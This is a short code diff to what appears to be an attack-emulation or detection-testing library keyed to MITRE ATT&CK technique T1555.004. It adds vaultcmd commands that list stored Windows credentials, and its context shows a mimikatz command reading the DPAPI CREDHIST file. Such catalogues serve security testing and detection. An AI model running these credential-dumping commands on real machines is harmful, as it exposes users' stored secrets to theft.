@@ -23,6 +23,14 @@ export const extrasD: Readonly<Record<string, readonly Variant[]>> = {
     ),
   ],
   "T1555.004": [
+    v(
+      "vaultcmd-ps",
+      [
+        { ps: 'vaultcmd /listcreds:"Windows Credentials" /all' },
+        { cmd: 'C:\\Windows\\system32\\VaultCmd.exe /listcreds:"Windows Credentials" /all', parent: "sh" },
+      ],
+      { shell: "ps" },
+    ),
     v("dpapi-credhist", [
       {
         cmd: '{{tools}}\\mimikatz.exe "dpapi::credhist /in:{{appdata}}\\Microsoft\\Protect\\CREDHIST" exit',
